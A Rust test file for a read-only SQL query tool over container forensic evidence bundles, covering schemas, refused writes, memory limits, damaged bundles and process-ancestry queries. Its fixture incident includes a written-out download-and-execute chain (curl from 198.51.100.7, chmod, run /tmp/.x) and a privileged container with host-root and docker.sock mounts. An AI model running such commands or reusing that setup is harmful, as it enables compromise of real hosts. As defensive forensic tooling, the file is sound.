//! What a session answers and what it refuses.

mod support;

use std::fs;
use std::path::PathBuf;
use support::{incident, open, problem, rows, wait, written};
use taffrail_query::arrow::array::AsArray as _;
use taffrail_query::{Format, QueryError, Session, Style};
use taffrail_trace::bundle;
use taffrail_trace::container::{Setup, SetupMount};
use taffrail_trace::event::Severity;
use taffrail_trace::fixture;
use taffrail_trace::manifest::Joined;
use taffrail_trace::schema::TABLES;
use taffrail_trace::table::Tables;

#[test]
fn every_table_has_the_columns_of_its_schema_and_its_bundle_and_host() {
    let (_dir, session) = incident();
    for table in TABLES {
        let batches = wait(session.sql(&format!("SELECT * FROM {}", table.name))).expect(table.name);
        let schema = batches[0].schema();
        let mut expected: Vec<&str> = table.all_columns().map(|column| column.name).collect();
        expected.extend(["bundle", "host"]);
        assert_eq!(schema.fields().iter().map(|field| field.name().as_str()).collect::<Vec<_>>(), expected);
        for (column, field) in table.all_columns().zip(schema.fields()) {
            assert_eq!(*field.data_type(), column.kind.data_type(), "{}.{}", table.name, column.name);
        }
    }
}

#[test]
fn an_answer_without_rows_still_has_columns() {
    let (_dir, session) = incident();
    let batches = wait(session.sql("SELECT pid, comm FROM process WHERE false")).expect("an answer");
    assert_eq!((batches.len(), batches[0].num_rows(), batches[0].num_columns()), (1, 0, 2));
}

#[test]
fn the_table_bundle_says_what_was_opened() {
    let (dir, session) = incident();
    let said = rows(
        &session,
        "SELECT id, container_name, image, runtime, host, trigger_rule, trigger_severity, trigger_time, from_time FROM bundle",
    );
    assert_eq!(
        said,
        ["0badcafe | web | registry.example/web:1.4 | docker | quay | reverse_shell | critical \
          | 2026-03-14T09:00:10.200000000Z | 2026-03-14T09:00:00.000000000Z"]
    );
    assert_eq!(rows(&session, "SELECT path FROM bundle"), [session.bundles()[0].path().to_string_lossy()]);
    drop(dir);
}

#[test]
fn the_table_bundle_says_what_was_worse_than_the_trigger_and_how_the_container_was_set_up() {
    let dir = tempfile::tempdir().expect("a directory");
    let (mut manifest, _) = fixture::incident();
    let joined =
        Joined { rule: "Escape".to_owned(), severity: Severity::Critical, time_ns: manifest.trigger.time_ns + 5 };
    manifest.most_severe = Some(joined);
    let mount = |source: &str, read_only| SetupMount {
        kind: "bind".to_owned(),
        source: source.to_owned(),
        path: "/x".to_owned(),
        read_only,
    };
    manifest.container.setup = Some(Box::new(Setup {
        command: vec!["sh".to_owned(), "-c".to_owned(), "a b".to_owned()],
        privileged: true,
        mounts: vec![mount("/", false), mount("/run/docker.sock", true)],
        ..Setup::default()
    }));
    let known = dir.path().join("known.evidence.zip");
    bundle::write(&known, &manifest, Tables::default()).expect("a bundle");
    (manifest.most_severe, manifest.container.setup, manifest.id) = (None, None, "1".to_owned());
    let unknown = dir.path().join("unknown.evidence.zip");
    bundle::write(&unknown, &manifest, Tables::default()).expect("a bundle");
    let session = open(&[known, unknown]).expect("a session");
    assert_eq!(
        rows(
            &session,
            "SELECT most_severe_rule, most_severe_severity, most_severe_time, privileged, command, container_user, host_mounts
             FROM bundle ORDER BY id",
        ),
        [
            "Escape | critical | 2026-03-14T09:00:10.200000005Z | true | sh -c 'a b' | root | /:/x:rw, /run/docker.sock:/x:ro",
            "null | null | null | null | null | null | null"
        ]
    );
}

#[test]
fn rows_of_several_bundles_are_told_apart() {
    let (_dir, first) = incident();
    let path = first.bundles()[0].path().to_owned();
    let session = open(&[path.clone(), path]).expect("a session");
    assert_eq!(session.labels(), ["0badcafe", "0badcafe-2"]);
    let one = rows(&first, "SELECT count(*) FROM process");
    let both = rows(&session, "SELECT bundle, count(*) FROM process GROUP BY bundle ORDER BY bundle");
    assert_eq!(both, [format!("0badcafe | {}", one[0]), format!("0badcafe-2 | {}", one[0])]);
    let second = rows(&session, "SELECT count(*) FROM process WHERE bundle = '0badcafe-2'");
    assert_eq!(second, one);
    let depth = "SELECT max(depth), count(*) FROM process_tree WHERE bundle = '0badcafe'";
    assert_eq!(rows(&session, depth), rows(&first, depth), "trees of two bundles do not mix");
}

#[test]
fn sql_cannot_write_or_read_other_files() {
    let (dir, session) = incident();
    let target = dir.path().join("out.csv");
    let secret = dir.path().join("secret.csv");
    fs::write(&secret, "a\n1\n").expect("a file");
    let (target, secret) = (target.display(), secret.display());
    for refused in [
        format!("COPY process TO '{target}'"),
        format!("CREATE EXTERNAL TABLE t STORED AS CSV LOCATION '{secret}'"),
        "CREATE TABLE t AS SELECT 1".to_owned(),
        "CREATE VIEW v AS SELECT 1".to_owned(),
        "DROP TABLE process".to_owned(),
        "INSERT INTO process SELECT * FROM process".to_owned(),
        "DELETE FROM process".to_owned(),
        "UPDATE process SET pid = 0".to_owned(),
        "SET datafusion.execution.batch_size = 1".to_owned(),
        "PREPARE p AS SELECT 1".to_owned(),
        "EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1".to_owned(),
        format!("EXPLAIN ANALYZE COPY process TO '{target}'"),
    ] {
        let problem = problem(&session, &refused);
        assert!(matches!(problem, QueryError::ReadOnly(_)), "{refused}: {problem:?}");
    }
    for unknown in [
        format!("SELECT * FROM '{secret}'"),
        format!("SELECT * FROM \"{secret}\""),
        format!("SELECT * FROM read_csv('{secret}')"),
        format!("SELECT * FROM read_parquet('{secret}')"),
        "SELECT * INTO t FROM process".to_owned(),
    ] {
        let problem = problem(&session, &unknown);
        assert!(matches!(problem, QueryError::Sql(_)), "{unknown}: {problem:?}");
    }
    assert_eq!(rows(&session, "SELECT count(*) > 0 FROM process"), ["true"]);
    assert_eq!(fs::read_dir(dir.path()).expect("a directory").count(), 2);
}

#[test]
fn a_mistake_is_answered_in_one_line_with_a_hint() {
    let (_dir, session) = incident();
    let cases = [
        ("SELECT * FROM proces", "there is no table 'proces'; did you mean 'process'?"),
        ("SELECT cmdlin FROM process", "no column named cmdlin. Did you mean 'process.cmdline'?"),
        ("SELEKT 1", "not SQL: "),
        ("SELECT 1; SELECT 2", "expected one SQL statement, found 2"),
        ("", "expected one SQL statement, found 0"),
        ("DROP TABLE process", "DROP is refused: evidence can only be read"),
    ];
    for (sql, expected) in cases {
        let said = problem(&session, sql).to_string();
        assert!(said.starts_with(expected), "{sql}: {said}");
        assert!(!said.contains('\n') && !said.contains("datafusion"), "{said}");
    }
    let said = problem(&session, "SELECT * FROM quux").to_string();
    assert!(said.contains("process, file, network") && said.contains("timeline"), "{said}");
    let said = problem(&session, "SELECT CAST('\u{1b}[31m' AS INT)").to_string();
    assert!(!said.contains('\u{1b}'), "{said}");
}

#[test]
fn tables_and_columns_can_be_asked_for() {
    let (_dir, session) = incident();
    assert!(rows(&session, "SHOW TABLES").iter().any(|row| row.contains("timeline")));
    assert!(rows(&session, "DESCRIBE process").iter().any(|row| row.starts_with("exec_id | UInt64")));
    assert!(!rows(&session, "EXPLAIN SELECT 1").is_empty());
    let relations = wait(session.relations()).expect("relations");
    assert_eq!(relations.len(), TABLES.len() + 1 + taffrail_query::VIEWS.len());
    for relation in relations {
        let silent: Vec<&str> =
            relation.columns.iter().filter(|column| column.doc.is_empty()).map(|column| column.name.as_str()).collect();
        assert!(silent.is_empty(), "{}: {silent:?}", relation.name);
        assert!(
            relation.columns.iter().all(|column| !column.kind.contains("View")),
            "what is asked for, not what is read: {relation:?}"
        );
        assert!(!relation.doc.is_empty() && relation.columns.len() > 5, "{relation:?}");
    }
}

#[test]
fn several_statements_run_in_order_and_none_where_one_is_refused() {
    let (_dir, session) = incident();
    let style = Style::new(Format::Csv);
    let sql = "SELECT 1 AS a; -- one\nSELECT 2 AS b;";
    assert_eq!(written(&session, sql, style).expect("rows"), "a\n1\nb\n2\n");
    let mut out = Vec::new();
    let refused = wait(session.run("SELECT 1; DROP TABLE process", &style, &mut out));
    assert!(matches!(refused, Err(QueryError::ReadOnly(_))));
    assert!(out.is_empty());
}

#[test]
fn what_is_no_bundle_is_not_opened() {
    assert!(matches!(open(&[]), Err(QueryError::NoBundle)));
    let missing = wait(Session::open(&[PathBuf::from("/nonexistent.evidence.zip")]));
    assert!(matches!(missing, Err(QueryError::Open(_))));
}

#[test]
fn a_query_beyond_the_memory_limit_is_an_error() {
    let (_dir, session) = incident();
    let greedy = "SELECT array_agg(a.value || repeat('x', 4000)) FROM range(1000000) a GROUP BY a.value % 10000";
    let problem = problem(&session, greedy);
    assert!(matches!(problem, QueryError::Memory(_)), "{problem:?}");
    assert_eq!(rows(&session, "SELECT 1"), ["1"]);
}

#[test]
fn long_texts_come_in_pieces_and_an_answer_of_more_than_the_memory_limit_is_an_error() {
    let (_dir, session) = incident();
    let pieces = wait(async {
        let long = "SELECT arrow_cast(repeat('x', 1000000), 'Utf8View') AS text FROM range(100)";
        let mut rows = session.rows(long).await.expect("an answer");
        let mut pieces = Vec::new();
        while let Some(batch) = rows.next().await.expect("rows") {
            let texts = batch.column(0).as_string::<i32>();
            assert!(texts.iter().all(|text| text.is_some_and(|text| text.len() == 1_000_000)));
            pieces.push(batch.num_rows());
        }
        pieces
    });
    assert_eq!(pieces.iter().sum::<usize>(), 100);
    assert!(pieces.iter().all(|rows| *rows <= 16), "{pieces:?}");
    let problem = problem(&session, "SELECT value, repeat('x', 20000) FROM range(60000)");
    assert!(matches!(problem, QueryError::Memory(_)), "{problem:?}");
}

#[test]
fn views_and_table_functions_are_there_whoever_names_them_first() {
    // Each in a session of its own: nothing is planned yet.
    for (sql, expected) in [
        ("SELECT count(*) > 0 FROM information_schema.columns WHERE table_name = 'timeline'", "true"),
        ("SELECT count(*) FROM information_schema.tables WHERE table_name IN ('rare', 'file_writes')", "2"),
        ("WITH listed AS (SELECT * FROM file_writes) SELECT count(*) >= 0 FROM listed", "true"),
        ("SELECT (SELECT count(*) FROM ancestors(1)) + (SELECT count(*) FROM descendants(1))", "0"),
        ("WITH timeline AS (SELECT 7 AS seven) SELECT seven FROM timeline", "7"),
    ] {
        let (_dir, session) = incident();
        assert_eq!(rows(&session, sql), [expected], "{sql}");
    }
    let (_dir, session) = incident();
    let (one, other) = wait(async {
        let ask = || session.sql("SELECT count(*) FROM downloads");
        futures::future::join(ask(), ask()).await
    });
    assert!(one.is_ok() && other.is_ok(), "{one:?} {other:?}");
    assert!(matches!(problem(&session, "SELECT * FROM timelin"), QueryError::Sql(_)));
    assert!(matches!(problem(&session, "SELECT * FROM ancestors('x')"), QueryError::Sql(_)));
}

#[test]
fn a_damaged_bundle_is_named_and_left_out_and_the_others_answer() {
    let (dir, first) = incident();
    let intact = first.bundles()[0].path().to_owned();
    let (cut, foreign) = (dir.path().join("cut.evidence.zip"), dir.path().join("foreign.evidence.zip"));
    let bytes = fs::read(&intact).expect("bytes");
    fs::write(&cut, &bytes[..bytes.len() / 2]).expect("written");
    let member = first.bundles()[0].members()["events/file.parquet"];
    let mut altered = bytes.clone();
    altered[(member.offset + member.len - 40) as usize..][..30].fill(0xff);
    fs::write(&foreign, altered).expect("written");
    let paths = [cut.clone(), intact.clone(), foreign.clone()];
    let (session, left_out) = wait(Session::open_readable(&paths)).expect("a session");
    assert_eq!(session.bundles().len(), 1);
    assert_eq!(rows(&session, "SELECT DISTINCT bundle, host FROM process"), ["0badcafe | quay"]);
    let named: Vec<String> = left_out.iter().map(ToString::to_string).collect();
    assert!(named[0].contains("cut.evidence.zip") && named[1].contains("foreign.evidence.zip"), "{named:?}");
    let problem = wait(Session::open_readable(&[cut, foreign])).expect_err("both are damaged");
    assert!(problem.to_string().contains("cut.evidence.zip"), "{problem}");
}

#[test]
fn damage_inside_one_of_several_bundles_says_which_one_it_is() {
    let (dir, first) = incident();
    let intact = first.bundles()[0].path().to_owned();
    let bad = dir.path().join("bad.evidence.zip");
    let whole = fs::read(&intact).expect("bytes");
    let member = first.bundles()[0].members()["events/process.parquet"];
    let mut told = 0;
    // Inside of pages, which nobody unpacks before somebody asks: not their headers, by which it would be left out.
    for at in (0..member.len as usize / 2).step_by(211) {
        let mut bytes = whole.clone();
        bytes[member.offset as usize + 4 + at] ^= 0x55;
        fs::write(&bad, bytes).expect("written");
        let (session, left_out) = wait(Session::open_readable(&[intact.clone(), bad.clone()])).expect("a session");
        if let (true, Err(problem)) = (left_out.is_empty(), wait(session.sql("SELECT * FROM process"))) {
            let problem = problem.to_string();
            assert!(problem.contains("bad.evidence.zip") && !problem.contains("0badcafe"), "{problem}");
            assert!(problem.contains("events/process.parquet") || problem.contains("altered"), "{problem}");
            told += 1;
        }
    }
    assert!(told > 5, "{told}");
}

#[test]
fn what_an_image_came_of_and_what_came_of_it_are_tables() {
    let (_dir, session) = incident();
    let id = &rows(&session, "SELECT exec_id FROM process WHERE cmdline = '/tmp/.x' AND origin = 'exec'")[0];
    let above = format!("SELECT distance, relation, cmdline FROM ancestors({id}) WHERE origin <> 'fork'");
    let expected = "\
0 | itself | /tmp/.x
2 | parent | sh -c 'curl -so /tmp/.part http://198.51.100.7/x && mv /tmp/.part /tmp/.x; chmod 755 /tmp/.x; /tmp/.x'
4 | parent | httpd -f -p 8080
6 | parent | sh /entrypoint.sh
8 | parent | dockerd -H fd://
9 | parent | /sbin/init";
    assert_eq!(rows(&session, &above).join("\n"), expected);
    let shell = "SELECT exec_id FROM process WHERE comm = 'sh' AND stdin LIKE 'inet%' AND origin = 'exec'";
    let shell = &rows(&session, shell)[0];
    let below =
        format!("SELECT cmdline FROM descendants('{shell}') WHERE origin = 'exec' AND distance > 0 AND pid < 5015");
    let expected =
        ["curl -so /tmp/.part http://198.51.100.7/x", "mv /tmp/.part /tmp/.x", "chmod 755 /tmp/.x", "/tmp/.x"];
    assert_eq!(rows(&session, &below), expected);
    let same = format!("SELECT count(*) FROM ancestry WHERE exec_id = {id}");
    assert_eq!(rows(&session, &same), rows(&session, &format!("SELECT count(*) FROM ancestors({id})")));
    assert!(problem(&session, "SELECT * FROM ancestors('nobody')").to_string().contains("exec_id"));
}

#[test]
fn functions_of_ours_say_what_their_page_says() {
    let (_dir, session) = incident();
    let one = |sql: &str| rows(&session, &format!("SELECT {sql}")).join("");
    assert_eq!(one("in_cidr('10.1.2.3', '10.0.0.0/8'), in_cidr('::ffff:10.1.2.3', '10.0.0.0/8')"), "true | true");
    assert_eq!(one("in_cidr('192.0.2.1', '10.0.0.0/8'), in_cidr('web', '10.0.0.0/8')"), "false | null");
    assert_eq!(one("basename('/usr/bin/nc'), dirname('/usr/bin/nc'), entropy('aabb')"), "nc | /usr/bin | 1.0");
    assert!(
        problem(&session, "SELECT in_cidr(remote_addr, '10.0.0.0/99') FROM network")
            .to_string()
            .contains("10.0.0.0/99")
    );
    let near = "SELECT DISTINCT comm FROM process WHERE around(time, '2026-03-14T09:00:10.3Z', 1) AND origin = 'exec' ORDER BY 1";
    let plain = "SELECT DISTINCT comm FROM process WHERE time BETWEEN TIMESTAMP '2026-03-14T09:00:09.3Z' \
                 AND TIMESTAMP '2026-03-14T09:00:11.3Z' AND origin = 'exec' ORDER BY 1";
    assert_eq!(rows(&session, near), rows(&session, plain));
    let trigger = "SELECT count(*) > 0 FROM process WHERE around(time, (SELECT trigger_time FROM bundle), 1)";
    assert_eq!(rows(&session, trigger), ["true"]);
    let by_row = "SELECT count(*) FROM process WHERE around(time, time, CAST(pid AS BIGINT) - pid)";
    assert_eq!(rows(&session, by_row), rows(&session, "SELECT count(*) FROM process"));
    let bucket = "SELECT time_bucket(INTERVAL '10 seconds', time) FROM process WHERE comm = 'curl' AND origin = 'exec'";
    assert_eq!(rows(&session, bucket), ["2026-03-14T09:00:10.000000000Z"]);
}
